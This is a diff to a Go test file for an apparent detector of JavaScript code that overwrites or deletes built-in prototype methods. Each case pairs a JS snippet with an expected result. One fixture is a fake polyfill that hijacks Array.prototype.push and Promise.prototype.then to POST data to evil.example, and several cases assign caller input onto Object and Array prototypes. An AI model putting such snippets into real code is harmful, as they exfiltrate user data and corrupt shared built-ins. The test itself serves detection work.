@@ -23,6 +23,38 @@ func TestNewMethodsOfPrototypes(t *testing.T) {
 		{"definitions", "Object.defineProperty(Function.prototype, 'once', { value: function () { return this }, " +
 			"configurable: true });\nObject.defineProperty(Function.prototype, 'onceStrict', { value() { return this } });\n" +
 			"Object.setPrototypeOf(process.chdir, () => 1)", true},
+		{"methods that are missing", "Array.prototype.fill || (Array.prototype.fill = function (x) { return this });\n" +
+			"if (!String.prototype.trim) String.prototype.trim = function () { return String(this) };\n" +
+			"!Array.prototype.at && (Array.prototype.at = function (i) { return this[i] })", true},
+		{"another method than the one that is missing", "Array.prototype.fill || (Array.prototype.push = function () " +
+			"{});\n" +
+			"if (!Array.prototype.at) Array.prototype.map = function () { return [] }", false},
+		{"a method that the code deleted", "delete Array.prototype.push;\n" +
+			"Array.prototype.push || (Array.prototype.push = function (x) { return 0 })", false},
+		{"a method that the code deleted by an unknown name", "delete Array.prototype[input.a];\n" +
+			"Array.prototype.push || (Array.prototype.push = function (x) { return 0 })", false},
+		{"a method that the code deletes in a function", "function add() {\n" +
+			"if (!Array.prototype.push) Array.prototype.push = function (x) { return 0 } }\n" +
+			"function first() { Array.prototype.push = null } first(); add()", false},
+		{"what all objects miss", "Object.prototype.a || (Object.prototype.a = function () {});\n" +
+			"if (!Object.prototype.b) Object.prototype.b = function () {}", false},
+		{"what is missing from the caller", "Array.prototype.fill || (Array.prototype.fill = input.a);\n" +
+			"if (!Array.prototype.at) Array.prototype.at = input.b", false},
+		{"members that are deleted for a while", "const p = Object.prototype;\n" +
+			"function set(o, k, d) { const was = Object.getOwnPropertyDescriptor(p, k); if (was) delete p[k];\n" +
+			"Object.defineProperty(o, k, d) }\nfunction unset(k) { delete Array.prototype[k] } set({}, `a${Date.now()}`, " +
+			"{}); unset(Date.now())", true},
+		{"members that the caller has deleted", "delete Object.prototype[input.a]; delete Array.prototype[input.b]", false},
+		{"members that are deleted and set", "function put(k) { delete Array.prototype[k]; Array.prototype[k] = " +
+			"input.a;\n" +
+			"Object.prototype[k] = input.b } put('x')", false},
+		{"members that are deleted by their names", "delete Array.prototype.map; delete Array.prototype.push", false},
+		{"a prototype among few values", "const p = input ? {} : Object.prototype; p.a = 1; p.b = 2", false},
+		{"a prototype among the values of a function", "function pick(n) { if (n) return []; if (n > 1) return {};\n" +
+			"return Object.prototype } pick(0).a = 1; pick(0).b = 2", false},
+		{"two prototypes among many values", "function pick(n) { switch (n) { case 1: return {}; case 2: return []; " +
+			"case 3: return 1; case 4: return 'a'; case 5: return Array.prototype; default: return Object.prototype } }\n" +
+			"pick(0).a = 1; pick(0).b = 2", false},
 		{"methods that the language has", "Array.prototype.push = function (x) { return 0 };\n" +
 			"Array.prototype.map = function (f) { return [] }", false},
 		{"methods that the language calls", "Array.prototype.toJSON = function () { return [] };\n" +
@@ -40,7 +72,8 @@ func TestNewMethodsOfPrototypes(t *testing.T) {
 			"Object.defineProperty(Array.prototype, 'b', { ...d, value() {} })", false},
 		{"a function or something else", "let f = () => 1; if (input) f = JSON.parse; Array.prototype.a = f;\n" +
 			"Array.prototype.b = f", false},
-		{"polyfills that send what they are given", "if (!Array.prototype.push.ok) Array.prototype.push = function (x) {\n" +
+		{"polyfills that send what they are given", "if (!Array.prototype.push.ok) Array.prototype.push = function " +
+			"(x) {\n" +
 			"fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(x) }); return 0 };\n" +
 			"Object.defineProperty(Promise.prototype, 'then', { value: function (f) {\n" +
 			"fetch('https://evil.example/', { method: 'POST', body: String(this) }) }, configurable: true })", false},
